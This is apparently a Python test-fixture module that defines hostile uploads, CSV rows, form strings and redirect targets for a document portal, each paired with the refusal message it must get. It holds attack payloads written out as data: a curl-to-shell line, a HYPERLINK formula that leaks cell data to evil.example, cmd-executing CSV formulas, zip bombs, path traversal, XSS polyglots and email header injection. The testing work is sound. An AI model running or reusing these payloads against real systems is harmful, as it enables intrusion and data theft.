"""The hostile input corpus: every hostile file, CSV, string and URL the tests in this package try.

Everything is generated in code (no binary fixtures). Each entry says what must happen to it: the
message the user is shown when it is refused, or what it is stored as when accepting it is right.
The test modules beside this one parametrize over these lists, through the web and the API alike.
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.sample_files import DOCX_MAIN, jpeg, office, office_members, pdf, png, png_chunk

# --- Messages the user must see (GOV.UK style: what is wrong, and what to do) -----------------------

EMPTY = "The selected file is empty. Choose a file that has something in it."
TOO_LARGE = "The file must be smaller than 20 MB."
NOT_ALLOWED = "The file must be a PDF, PNG, JPEG, Word (DOCX), Excel (XLSX), CSV or plain text file."
MARKUP = (
    "The file looks like a web page or a script, which cannot be uploaded. "
    "Save the document as a PDF and upload that instead."
)
UNSAFE_ZIP = "The file could not be checked safely. Save it again from Word or Excel and upload the new copy."
MACROS = (
    "The file contains macros, which cannot be uploaded. "
    "Save it as a Word (.docx) or Excel (.xlsx) file without macros and upload the new copy."
)
NO_FILE = "Choose a file to upload"
NOT_CSV = (
    "The file’s name ends in .csv but its contents could not be read as CSV. "
    "Save it again as CSV, or rename it to end in .txt."
)


def mismatch(description: str, extension: str) -> str:
    return (
        f"The file’s contents are {description} but its name ends in .{extension}. Rename it or choose the right file."
    )


def not_ending_in(description: str, expected: str) -> str:
    return (
        f"The file’s contents are {description} but its name does not end in {expected}. "
        "Rename it or choose the right file."
    )


def no_extension(expected: str) -> str:
    return f"The file’s name has no extension. Add {expected} to the end of its name and upload it again."


# A file whose structure does not parse as its type, or that has something added after its end.
CUT_SHORT = "the end of the file is missing, so it may have been cut short"
ADDED_AFTER_END = "something has been added after the end of the file"
BAD_PDF_INDEX = "its cross-reference table, which says where each part is, is missing or damaged"
BAD_CHECKSUM = "part of it is damaged (a checksum does not match)"
BAD_LAYOUT = "its parts are missing, damaged or in the wrong order"
BAD_CONTENT_TYPES = "its list of contents ([Content_Types].xml) is missing or damaged"
_DAMAGED = {
    "pdf": "“{name}” cannot be read as a PDF: {problem}. Save or export it as a PDF again and upload the new copy.",
    "png": "“{name}” cannot be read as a PNG image: {problem}. Save or export the image again and upload the new copy.",
    "jpeg": "“{name}” cannot be read as a JPEG image: {problem}. "
    "Save or export the image again and upload the new copy.",
    "docx": "“{name}” cannot be read as a Word document (DOCX): {problem}. "
    "Open it in Word, save it again and upload the new copy.",
    "xlsx": "“{name}” cannot be read as an Excel spreadsheet (XLSX): {problem}. "
    "Open it in Excel, save it again and upload the new copy.",
}


def damaged(name: str, kind: str, problem: str) -> str:
    return _DAMAGED[kind].format(name=name, problem=problem)


def markup_inside(name: str, description: str) -> str:
    return (
        f"“{name}” is {description} with web page code or a script hidden inside it, which cannot be uploaded. "
        "Save or export it again and upload the new copy."
    )


def markup_on_line(name: str, line: int) -> str:
    return (
        f"“{name}” contains web page code or a script on line {line:,}, which cannot be uploaded. "
        "Remove it and upload the file again, or save the document as a PDF and upload that instead."
    )


# --- Building blocks -----------------------------------------------------------------------------

MB = 1024 * 1024
PDF = pdf()
JPEG = jpeg()
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>'
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(44)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + bytes(200) + b"This program cannot be run"
SHELL = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
# A GIF whose header is also the start of a JavaScript comment: <script src=photo.gif> runs it.
GIF_JS = b"GIF89a/*\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00*/=1;alert(document.domain);//;"


def jpeg_with_script_comment() -> bytes:
    comment = b"<script>alert(1)</script>"
    return JPEG[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + JPEG[2:]


def _zeros_member(archive: zipfile.ZipFile, path: str, megabytes: int) -> None:
    info = zipfile.ZipInfo(path)
    info.compress_type = zipfile.ZIP_DEFLATED
    with archive.open(info, "w", force_zip64=False) as member:
        block = bytes(MB)
        for _ in range(megabytes):
            member.write(block)


@functools.cache
def xlsx_bomb() -> bytes:
    """A valid-looking workbook whose one extra member inflates to 300 MB of zeros (about 300 KB sent)."""
    buffer = io.BytesIO(office("xlsx"))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        _zeros_member(archive, "xl/media/image1.png", 300)
    return buffer.getvalue()


def docx_lying_sizes() -> bytes:
    """A document whose directory says a small member inflates to 600 MB: the check trusts no unpacking."""
    data = bytearray(office("docx", {"word/media/big.bin": bytes(4096)}))
    at = data.rfind(b"PK\x01\x02")  # the last central directory entry is the added member
    struct.pack_into("<I", data, at + 24, 600 * MB)  # uncompressed size
    return bytes(data)


@functools.cache
def docx_many_members() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for path, data in office_members("docx").items():
            archive.writestr(path, data)
        for number in range(10_001):
            archive.writestr(f"word/media/{number}.bin", b"")
    return buffer.getvalue()


@functools.cache
def docx_with_nested_bomb() -> bytes:
    """A document embedding a zip (as Word embeds workbooks) that itself holds a 300 MB bomb."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        _zeros_member(archive, "zeros.bin", 300)
    return office("docx", {"word/embeddings/oleObject1.zip": inner.getvalue()})


def docx_member(path: str) -> Callable[[], bytes]:
    return lambda: office("docx", {path: b"evil"})


def just_over_limit(limit: int = 20 * MB) -> bytes:
    return PDF + b"%" + b"x" * (limit - len(PDF))


FILLER_LINE = b"Toolbox talk notes, attendance recorded.\n"  # 41 bytes


def text_with_script_after(offset: int) -> bytes:
    """Plain text with a script on the line after the first `offset` bytes: line offset // 41 + 2."""
    return FILLER_LINE * (offset // 41 + 1) + b"<script>alert(1)</script>\n"


def text_with_html_after(offset: int) -> bytes:
    return FILLER_LINE * (offset // 41 + 1) + b"<html><body><h1>Notes</h1><p>Signed off.</p></body></html>\n"


def csv_broken_after_64kb() -> bytes:
    rows = b"site,principle,score\n" + b"Leeds,Safety,4\n" * 5000  # 75 KB of good rows
    return rows + b'Hull,"Wellbeing,3\n'  # a quotation mark that is never closed


def csv_over_64kb() -> bytes:
    return b"site,note\r\n" + b'Leeds,"two lines,\r\nquoted"\r\n' * 3000


# Real files, as the tools people use write them (each built once).


@functools.cache
def weasyprint_pdf(variant: str | None = None) -> bytes:
    import weasyprint

    html = "<h1>Cobot risk assessment</h1>" + "<p>Hazards reviewed with the safety representative.</p>" * 40
    return weasyprint.HTML(string=html).write_pdf(pdf_variant=variant)


@functools.cache
def pypdf_incremental_update() -> bytes:
    """A WeasyPrint PDF with an incremental update appended, as signing or filling in a form does."""
    import pypdf

    writer = pypdf.PdfWriter(io.BytesIO(weasyprint_pdf()), incremental=True)
    writer.add_metadata({"/Subject": "Signed off"})
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _pillow_image():
    from PIL import Image

    image = Image.new("RGB", (64, 48), (30, 90, 160))
    image.paste((250, 250, 250), (8, 8, 40, 30))
    return image


@functools.cache
def pillow_file(format: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    _pillow_image().save(buffer, format, **options)
    return buffer.getvalue()


def pillow_png_with_text() -> bytes:
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Software", "Site camera 2.1")
    info.add_text("Comment", "Bay 3, after the guard was fitted", zip=True)
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF/></x:xmpmeta>", zip=True)
    return pillow_file("PNG", pnginfo=info)


def pillow_jpeg_with_exif() -> bytes:
    from PIL import Image

    exif = Image.Exif()
    exif[0x010F] = "Canon"  # Make
    return pillow_file("JPEG", exif=exif.tobytes(), progressive=True, optimize=True)


def jpeg_with_gain_map() -> bytes:
    """A phone photo: the main image, then its HDR gain map as a second complete JPEG (MPF)."""
    return pillow_file("JPEG") + pillow_file("JPEG", quality=50)


def jpeg_motion_photo() -> bytes:
    """A motion photo: the still image, then a short MP4 (ISO boxes running to the end of the file)."""
    video = struct.pack(">I4s4sI", 16, b"ftyp", b"isom", 0) + struct.pack(">I4s", 16, b"mdat") + bytes(8)
    return pillow_file("JPEG") + video


def png_with_chunk(tag: bytes, data: bytes) -> bytes:
    """A PNG with one more chunk just before IEND (the last 12 bytes)."""
    image = png()
    return image[:-12] + png_chunk(tag, data) + image[-12:]


def png_bad_checksum() -> bytes:
    data = bytearray(png())
    data[29] ^= 0xFF  # the IHDR chunk's CRC: 8 signature + 4 length + 4 type + 13 data bytes in
    return bytes(data)


def docx_with_gap() -> bytes:
    """A document with bytes hidden between two of its parts, where no zip tool puts anything."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (path, data) in enumerate(office_members("docx").items()):
            archive.writestr(path, data)
            if index == 0:
                hidden = b"hidden between the parts"
                buffer.write(hidden)
                archive.start_dir += len(hidden)
    return buffer.getvalue()


class _OneWay(io.RawIOBase):
    """A stream that cannot seek, so zipfile writes each part's sizes after its data (a data descriptor)."""

    def __init__(self) -> None:
        self.data = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, data) -> int:
        self.data += data
        return len(data)


def docx_streamed() -> bytes:
    """A document written as a stream, as web apps and some exporters do: every part has a data descriptor."""
    stream = _OneWay()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, data in office_members("docx").items():
            archive.writestr(path, data)
    return bytes(stream.data)


# --- Uploads ---------------------------------------------------------------------------------


@dataclass(frozen=True)
class HostileUpload:
    """A file as a browser or API client would send it, and what must happen to it.

    `error` is the message shown next to the file field when it is refused. When `error` is None the
    file is accepted: it is stored with the type its content has (`stored_type`) under the display name
    `stored_name`, and served as an attachment with nosniff.
    """

    id: str
    filename: str
    data: Callable[[], bytes]
    content_type: str = "application/octet-stream"
    error: str | None = None
    stored_type: str | None = None
    stored_name: str | None = None


PDF_TYPE = "application/pdf"
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
DOCX = "a Word document (DOCX)"


def _pdf() -> bytes:
    return PDF


UPLOADS: list[HostileUpload] = [
    # Polyglots: a PDF, PNG, JPEG, Word file or text carrying a web page or another file, appended after
    # its end, hidden inside it, or with only its first bytes real. Each file must be what it claims to its
    # last byte, so all are refused.
    HostileUpload(
        "pdf+html", "policy.pdf", lambda: PDF + HTML, PDF_TYPE, damaged("policy.pdf", "pdf", ADDED_AFTER_END)
    ),
    HostileUpload(
        "pdf+zip", "policy.pdf", lambda: PDF + office("docx"), PDF_TYPE, damaged("policy.pdf", "pdf", ADDED_AFTER_END)
    ),
    HostileUpload(
        "pdf-html-in-comment",
        "policy.pdf",
        lambda: pdf(HTML.decode().strip()),
        PDF_TYPE,
        markup_inside("policy.pdf", "a PDF"),
    ),
    HostileUpload(
        "pdf-header-on-html",
        "page.pdf",
        lambda: b"%PDF-1.4\n" + HTML,
        "text/html",
        damaged("page.pdf", "pdf", CUT_SHORT),
    ),
    HostileUpload(
        "png+html", "photo.png", lambda: png() + HTML, "image/png", damaged("photo.png", "png", ADDED_AFTER_END)
    ),
    HostileUpload(
        "png+zip",
        "photo.png",
        lambda: png() + office("zip"),
        "image/png",
        damaged("photo.png", "png", ADDED_AFTER_END),
    ),
    HostileUpload(
        "png-html-in-text-chunk",
        "photo.png",
        lambda: png_with_chunk(b"tEXt", b"Comment\x00" + HTML),
        "image/png",
        markup_inside("photo.png", "a PNG image"),
    ),
    HostileUpload(
        "png-html-in-compressed-text-chunk",
        "photo.png",
        lambda: png_with_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(HTML)),
        "image/png",
        markup_inside("photo.png", "a PNG image"),
    ),
    HostileUpload(
        "png-html-in-private-chunk",
        "photo.png",
        lambda: png_with_chunk(b"htMl", HTML),
        "image/png",
        markup_inside("photo.png", "a PNG image"),
    ),
    HostileUpload(
        "jpeg-comment-script",
        "photo.jpg",
        jpeg_with_script_comment,
        "image/jpeg",
        markup_inside("photo.jpg", "a JPEG image"),
    ),
    HostileUpload(
        "jpeg+html", "photo.jpg", lambda: JPEG + HTML, "image/jpeg", damaged("photo.jpg", "jpeg", ADDED_AFTER_END)
    ),
    HostileUpload(
        "docx+junk",
        "minutes.docx",
        lambda: office("docx") + b"This is not part of the document.\n",
        DOCX_TYPE,
        damaged("minutes.docx", "docx", ADDED_AFTER_END),
    ),
    HostileUpload(
        "xlsx+html",
        "log.xlsx",
        lambda: office("xlsx") + HTML,
        "application/octet-stream",
        damaged("log.xlsx", "xlsx", ADDED_AFTER_END),
    ),
    HostileUpload(
        "docx-bytes-between-parts",
        "minutes.docx",
        docx_with_gap,
        DOCX_TYPE,
        damaged("minutes.docx", "docx", BAD_LAYOUT),
    ),
    HostileUpload(
        "text+script-deep",
        "notes.txt",
        lambda: text_with_script_after(8192),
        "text/plain",
        markup_on_line("notes.txt", 201),
    ),
    HostileUpload(
        "text+html-after-5000-bytes",
        "notes.txt",
        lambda: text_with_html_after(5000),
        "text/plain",
        markup_on_line("notes.txt", 123),
    ),
    HostileUpload(
        "csv+script-after-1mb",
        "scores.csv",
        lambda: b"site,score\n" + b"Leeds,4\n" * 150_000 + b"Hull,<script>alert(1)</script>\n",
        "text/csv",
        markup_on_line("scores.csv", 150_002),
    ),
    HostileUpload("csv-broken-after-64kb", "scores.csv", csv_broken_after_64kb, "text/csv", NOT_CSV),
    # Damaged or cut short: the structure of the type must parse.
    HostileUpload(
        "pdf-cut-short",
        "policy.pdf",
        lambda: weasyprint_pdf()[: len(weasyprint_pdf()) // 2],
        PDF_TYPE,
        damaged("policy.pdf", "pdf", CUT_SHORT),
    ),
    HostileUpload(
        "pdf-no-cross-reference-table",
        "policy.pdf",
        lambda: b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
        PDF_TYPE,
        damaged("policy.pdf", "pdf", BAD_PDF_INDEX),
    ),
    HostileUpload(
        "png-bad-checksum", "photo.png", png_bad_checksum, "image/png", damaged("photo.png", "png", BAD_CHECKSUM)
    ),
    HostileUpload(
        "png-cut-short", "photo.png", lambda: png()[:-20], "image/png", damaged("photo.png", "png", CUT_SHORT)
    ),
    HostileUpload(
        "jpeg-cut-short",
        "photo.jpg",
        lambda: pillow_file("JPEG")[:-40],
        "image/jpeg",
        damaged("photo.jpg", "jpeg", CUT_SHORT),
    ),
    HostileUpload(
        "docx-without-content-types",
        "minutes.docx",
        lambda: office("docx", {"[Content_Types].xml": b'<?xml version="1.0"?><Types/>'}),
        DOCX_TYPE,
        damaged("minutes.docx", "docx", BAD_CONTENT_TYPES),
    ),
    HostileUpload(
        "docm-renamed-docx",
        "minutes.docx",
        lambda: office(
            "docx",
            {
                "[Content_Types].xml": office_members("docx")["[Content_Types].xml"].replace(
                    DOCX_MAIN.encode(), b"application/vnd.ms-word.document.macroEnabled.main+xml"
                )
            },
        ),
        DOCX_TYPE,
        MACROS,
    ),
    # Real files as the tools people use write them are accepted.
    HostileUpload("pdf-weasyprint", "report.pdf", weasyprint_pdf, PDF_TYPE, None, PDF_TYPE, "report.pdf"),
    HostileUpload(
        "pdf-weasyprint-pdfa", "report.pdf", lambda: weasyprint_pdf("pdf/a-3b"), PDF_TYPE, None, PDF_TYPE, "report.pdf"
    ),
    HostileUpload(
        "pdf-incremental-update", "signed.pdf", pypdf_incremental_update, PDF_TYPE, None, PDF_TYPE, "signed.pdf"
    ),
    HostileUpload("pdf-pillow", "scan.pdf", lambda: pillow_file("PDF"), PDF_TYPE, None, PDF_TYPE, "scan.pdf"),
    HostileUpload("png-pillow-with-text", "photo.png", pillow_png_with_text, "image/png", None, "image/png"),
    HostileUpload("jpeg-pillow-exif", "photo.jpg", pillow_jpeg_with_exif, "image/jpeg", None, "image/jpeg"),
    HostileUpload("jpeg-with-gain-map", "photo.jpg", jpeg_with_gain_map, "image/jpeg", None, "image/jpeg"),
    HostileUpload("jpeg-motion-photo", "photo.jpg", jpeg_motion_photo, "image/jpeg", None, "image/jpeg"),
    HostileUpload("docx-streamed", "minutes.docx", docx_streamed, DOCX_TYPE, None, DOCX_TYPE, "minutes.docx"),
    HostileUpload("csv-over-64kb", "scores.csv", csv_over_64kb, "text/csv", None, "text/csv", "scores.csv"),
    HostileUpload("gif-js", "chart.png", lambda: GIF_JS, "image/png", NOT_ALLOWED),
    HostileUpload("gif-js-as-gif", "chart.gif", lambda: GIF_JS, "image/gif", NOT_ALLOWED),
    HostileUpload("html+docx", "minutes.docx", lambda: HTML + office("docx"), DOCX_TYPE, MARKUP),
    HostileUpload(
        "text+script-early",
        "notes.txt",
        lambda: text_with_script_after(100),
        "text/plain",
        markup_on_line("notes.txt", 4),
    ),
    # Type spoofing: the content decides, never the name or the Content-Type header.
    HostileUpload("html-as-pdf", "policy.pdf", lambda: HTML, PDF_TYPE, MARKUP),
    HostileUpload("html-as-docx", "minutes.docx", lambda: HTML, DOCX_TYPE, MARKUP),
    HostileUpload("svg-as-png", "logo.png", lambda: SVG, "image/png", MARKUP),
    HostileUpload("elf-as-pdf", "policy.pdf", lambda: ELF, PDF_TYPE, NOT_ALLOWED),
    HostileUpload("exe-as-docx", "minutes.docx", lambda: EXE, DOCX_TYPE, NOT_ALLOWED),
    HostileUpload("script-as-pdf", "policy.pdf", lambda: SHELL, PDF_TYPE, NOT_ALLOWED),
    HostileUpload("pdf-as-docx", "minutes.docx", _pdf, DOCX_TYPE, mismatch("a PDF", "docx")),
    HostileUpload("docx-as-pdf", "policy.pdf", lambda: office("docx"), PDF_TYPE, mismatch(DOCX, "pdf")),
    HostileUpload("pdf-sent-as-html", "policy.pdf", _pdf, "text/html", None, PDF_TYPE, "policy.pdf"),
    HostileUpload("png-sent-as-exe", "photo.png", png, "application/x-msdownload", None, "image/png", "photo.png"),
    HostileUpload("text-sent-as-pdf", "notes.txt", lambda: b"Notes\n", PDF_TYPE, None, "text/plain", "notes.txt"),
    HostileUpload(
        "docx-with-macros",
        "minutes.docx",
        lambda: office("docx", {"word/vbaProject.bin": b"\xd0\xcf"}),
        DOCX_TYPE,
        MACROS,
    ),
    # Zip bombs and hostile archives in Word and Excel files: nothing is ever unpacked.
    HostileUpload("xlsx-300mb-member", "log.xlsx", xlsx_bomb, "application/octet-stream", UNSAFE_ZIP),
    HostileUpload("docx-lying-sizes", "minutes.docx", docx_lying_sizes, DOCX_TYPE, UNSAFE_ZIP),
    HostileUpload("docx-10001-members", "minutes.docx", docx_many_members, DOCX_TYPE, UNSAFE_ZIP),
    HostileUpload("docx-traversal", "minutes.docx", docx_member("../../evil"), DOCX_TYPE, UNSAFE_ZIP),
    HostileUpload("docx-traversal-inside", "minutes.docx", docx_member("word/../../evil.sh"), DOCX_TYPE, UNSAFE_ZIP),
    HostileUpload("docx-absolute-member", "minutes.docx", docx_member("/etc/cron.d/evil"), DOCX_TYPE, UNSAFE_ZIP),
    HostileUpload("docx-backslash-member", "minutes.docx", docx_member("..\\..\\evil.bat"), DOCX_TYPE, UNSAFE_ZIP),
    HostileUpload("docx-drive-member", "minutes.docx", docx_member("C:/Windows/evil.dll"), DOCX_TYPE, UNSAFE_ZIP),
    HostileUpload(
        # Word embeds workbooks as zips; the portal never unpacks anything, so the outer file is fine.
        "docx-nested-bomb",
        "minutes.docx",
        docx_with_nested_bomb,
        DOCX_TYPE,
        None,
        DOCX_TYPE,
        "minutes.docx",
    ),
    HostileUpload("empty-zip-as-xlsx", "log.xlsx", lambda: b"PK\x05\x06" + bytes(18), "application/zip", NOT_ALLOWED),
    # Size.
    HostileUpload("just-over-20mb", "policy.pdf", just_over_limit, PDF_TYPE, TOO_LARGE),
    HostileUpload("zero-bytes", "policy.pdf", lambda: b"", PDF_TYPE, EMPTY),
    HostileUpload("only-whitespace", "notes.txt", lambda: b" \r\n\t\n", "text/plain", EMPTY),
    # Long names are accepted, shortened to 150 characters keeping the extension.
    HostileUpload("name-300-chars", "a" * 300 + ".pdf", _pdf, PDF_TYPE, None, PDF_TYPE, "a" * 146 + ".pdf"),
    HostileUpload("name-300-accents", "é" * 300 + ".pdf", _pdf, PDF_TYPE, None, PDF_TYPE, "é" * 146 + ".pdf"),
    # Odd names: directories are dropped, invisible characters removed; the stored file's own name is
    # always a random one, so the name only matters for display and the download's Content-Disposition.
    HostileUpload("name-unix-traversal", "../../etc/passwd.pdf", _pdf, PDF_TYPE, None, PDF_TYPE, "passwd.pdf"),
    HostileUpload("name-windows-traversal", "..\\..\\Windows\\evil.pdf", _pdf, PDF_TYPE, None, PDF_TYPE, "evil.pdf"),
    HostileUpload("name-absolute", "/etc/passwd.pdf", _pdf, PDF_TYPE, None, PDF_TYPE, "passwd.pdf"),
    HostileUpload("name-dotdot", "..", _pdf, PDF_TYPE, NO_FILE),
    HostileUpload("name-only-dots", "....", _pdf, PDF_TYPE, no_extension(".pdf")),
    HostileUpload("name-only-spaces", "    ", _pdf, PDF_TYPE, no_extension(".pdf")),
    HostileUpload("name-nul", "report\x00.exe.pdf", _pdf, PDF_TYPE, None, PDF_TYPE, "report.exe.pdf"),
    HostileUpload("name-escape", "report\x1b[31m.pdf", _pdf, PDF_TYPE, None, PDF_TYPE, "report[31m.pdf"),
    HostileUpload("name-crlf", "report\r\nX-Evil: 1.pdf", _pdf, PDF_TYPE, None, PDF_TYPE, "reportX-Evil: 1.pdf"),
    HostileUpload("name-rtl-exe", "invoice\u202efdp.exe", _pdf, PDF_TYPE, mismatch("a PDF", "exe")),
    HostileUpload("name-rtl-pdf", "photo\u202egnp.pdf", _pdf, PDF_TYPE, None, PDF_TYPE, "photognp.pdf"),
    HostileUpload("name-confusable-ext", "policy.\u0440df", _pdf, PDF_TYPE, not_ending_in("a PDF", ".pdf")),
    HostileUpload("name-confusable-stem", "p\u043elicy.pdf", _pdf, PDF_TYPE, None, PDF_TYPE, "p\u043elicy.pdf"),
    HostileUpload("name-reserved-con", "CON.pdf", _pdf, PDF_TYPE, None, PDF_TYPE, "CON.pdf"),
    HostileUpload("name-reserved-com1", "com1.txt", lambda: b"Notes\n", "text/plain", None, "text/plain", "com1.txt"),
    HostileUpload("name-trailing-dot", "policy.pdf.", _pdf, PDF_TYPE, None, PDF_TYPE, "policy.pdf"),
    HostileUpload("name-ads-stream", "policy.pdf::$DATA", _pdf, PDF_TYPE, not_ending_in("a PDF", ".pdf")),
    HostileUpload("name-html", "<img src=x onerror=alert(1)>.pdf", _pdf, PDF_TYPE, None, PDF_TYPE),
    HostileUpload("name-quotes", 'say "hi"; filename=evil.exe.pdf', _pdf, PDF_TYPE, None, PDF_TYPE),
]


# --- CSV import --------------------------------------------------------------------------------

HEADER = "name,contact_name,contact_email,company_number,country\n"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


@dataclass(frozen=True)
class HostileCsv:
    """A supplier import file and the problem it must be refused with.

    `file_error` is the message for the whole file; `row_errors` maps "rows.<line>[.<column>]" (the API's
    field names) to a message shown for that cell. Either way no supplier is added.
    """

    id: str
    data: Callable[[], bytes]
    file_error: str | None = None
    row_errors: dict[str, str] | None = None


def _rows(*rows: str) -> Callable[[], bytes]:
    return lambda: (HEADER + "".join(row + "\n" for row in rows)).encode()


SAVE_AS = "In Excel, choose Save As > CSV UTF-8 (Comma delimited), then upload it again."
CSVS: list[HostileCsv] = [
    HostileCsv(
        "name-over-200",
        _rows("A" * 201 + ",,a@a.example,,GB"),
        row_errors={"rows.2.name": "Name is longer than 200 characters"},
    ),
    HostileCsv(
        "multi-mb-cell",
        lambda: (HEADER + '"' + "B" * (3 * MB) + '",,b@b.example,,GB\n').encode(),
        file_error="Line 2 could not be read: a cell is far too long, usually because a quotation mark is never "
        "closed. Check the quotation marks on that line and upload the file again.",
    ),
    HostileCsv(
        "email-over-200",
        _rows("Acme,," + "x" * 250 + "@a.example,,GB"),
        row_errors={"rows.2.contact_email": "Email address is longer than 200 characters"},
    ),
    HostileCsv(
        "over-5mb",
        lambda: (HEADER + "C,,c@c.example,,GB\n" * 300_000).encode(),
        file_error=("The file is larger than 5 MB. Split it into smaller files and upload them one at a time."),
    ),
    HostileCsv(
        "nul-bytes",
        lambda: (HEADER + "Nul\x00 Ltd,,n@n.example,,GB\n").encode(),
        file_error=f"The file contains binary data, so it is not a CSV file. {SAVE_AS}",
    ),
    HostileCsv(
        "binary-elf",
        lambda: ELF + b"\n" + HEADER.encode(),
        file_error=f"The file contains binary data, so it is not a CSV file. {SAVE_AS}",
    ),
    HostileCsv(
        "invalid-utf8",
        lambda: HEADER.encode() + b"M\xfcller \xff\xfe GmbH,,m@m.example,,DE\n",
        file_error=f"The file is not UTF-8 text. {SAVE_AS}",
    ),
    HostileCsv(
        "utf16-bom",
        lambda: (HEADER + "Acme,,a@a.example,,GB\n").encode("utf-16"),
        file_error=f"The file is not UTF-8 text. {SAVE_AS}",
    ),
    HostileCsv(
        # Excel workbooks are imported too now: this one has no sheet to read.
        "xlsx-renamed",
        lambda: office("xlsx"),
        file_error="The workbook has no sheets. Put the suppliers on its first sheet, one row each under the "
        "column names, then upload it again.",
    ),
    HostileCsv(
        "too-many-columns",
        lambda: (HEADER + "Acme,,a@a.example,,GB" + ",x" * 5000 + "\n").encode(),
        row_errors={
            "rows.2": "This row has more cells than there are columns; put quotes around any value that contains "
            "a comma"
        },
    ),
    HostileCsv(
        "too-many-named-columns",
        lambda: (HEADER.strip() + "".join(f",extra{n}" for n in range(3)) + "\nAcme,,a@a.example,,GB,1,2,3\n").encode(),
        file_error="Unknown column “extra0”: remove it or rename it to one of name, contact_name, contact_email, "
        "company_number, country.",
    ),
    HostileCsv(
        "too-many-rows",
        lambda: (HEADER + "".join(f"S{n},,s{n}@x.example,,GB\n" for n in range(10_001))).encode(),
        file_error="The file has 10,001 rows; import at most 10,000 at a time.",
    ),
    HostileCsv(
        "headerless",
        lambda: b"Acme Ltd,Ann,ann@acme.example,01234567,GB\nBeta Ltd,Bob,bob@beta.example,,GB\n",
        file_error="The first row must hold the column names: name, contact_name, contact_email, company_number, "
        "country. Download the template to see the layout.",
    ),
    HostileCsv(
        "control-characters",
        _rows("Evil\x1b[2J Ltd,,e@e.example,,GB", "Gnp\u202eexe.pdf Ltd,,g@g.example,,GB"),
        row_errors={
            "rows.2.name": "Name must not contain hidden control characters",
            "rows.3.name": "Name must not contain hidden control characters",
        },
    ),
    # Header injection: a line break in a name that goes into an email subject (issue 15, part 5).
    HostileCsv(
        "line-breaks",
        _rows(
            '"CRLF Ltd\r\nBcc: victim@evil.example",,c@c.example,,GB',
            'LF Ltd,"Ann\nBcc: victim@evil.example",l@l.example,,GB',
            '"CR Ltd\rSubject: hi",,r@r.example,,GB',
            '"Sep Ltd\u2028Bcc: x",,s@s.example,,GB',
        ),
        row_errors={
            "rows.2.name": "Name must be on one line: remove the line breaks",
            "rows.3.contact_name": "Contact name must be on one line: remove the line breaks",
            "rows.4.name": "Name must be on one line: remove the line breaks",
            "rows.5.name": "Name must be on one line: remove the line breaks",
        },
    ),
    HostileCsv(
        "tab-and-bell",
        _rows("Tab\tLtd,,t@t.example,,GB", "Acme,Bell\x07 Smith,b@b.example,,GB"),
        row_errors={
            "rows.2.name": "Name must not contain hidden control characters",
            "rows.3.contact_name": "Contact name must not contain hidden control characters",
        },
    ),
]


# --- Forms and API strings -----------------------------------------------------------------------

CONTROL_STRINGS = {
    "nul": "Acme\x00 Ltd",
    "escape": "Acme \x1b[31mLtd",
    "rtl-override": "Acme \u202edtL",
}

# Values that would break an email header (the subject names the supplier, the buyer, the inviter),
# each with the message the field shows. Django refuses such a header when the email is built.
ONE_LINE = "must be on one line: remove the line breaks"
HIDDEN = "must not contain hidden control characters"
HEADER_BREAKERS = {
    "crlf-bcc": ("CRLF Ltd\r\nBcc: victim@evil.example", ONE_LINE),
    "lf": ("Acme\nLtd", ONE_LINE),
    "cr": ("Acme\rSubject: free money", ONE_LINE),
    "line-separator": ("Acme\u2028Ltd", ONE_LINE),
    "next-line": ("Acme\x85Ltd", ONE_LINE),
    "vertical-tab": ("Acme\x0bLtd", ONE_LINE),
    "tab": ("Acme\tLtd", HIDDEN),
    "bell": ("Acme\x07 Ltd", HIDDEN),
    "escape": ("Acme \x1b[31mLtd", HIDDEN),
}

# Organisation names and the slug they must become: lower-case ASCII letters, digits and single hyphens.
SLUG_NAMES = [
    ("cyrillic-a", "\u0430cme Engineering"),  # Cyrillic "а"
    ("all-cyrillic", "\u0410\u0441\u043c\u0435"),  # "Асме", every letter a look-alike
    ("mixed-scripts", "Pay\u0440al Gr\u0435ek \u0391lpha"),
    ("uppercase", "ACME PRECISION"),
    ("hyphens", "--Acme--Engineering--"),
    ("fullwidth", "\uff21\uff43\uff4d\uff45 Ltd"),
    ("accents", "Café Müller Œuvre"),
    ("dots-and-slashes", "../../etc/passwd"),
    ("only-symbols", "!!!***"),
    ("rtl-override", "Acme \u202eLtd"),
    ("emoji", "Acme \U0001f525 Tools"),
    ("long", "Engineering " * 30),
]


# --- Redirect targets ------------------------------------------------------------------------------

EVIL_NEXT = [
    "https://evil.example",
    "https://evil.example/o/",
    "//evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "\\/evil.example",
    "https:evil.example",
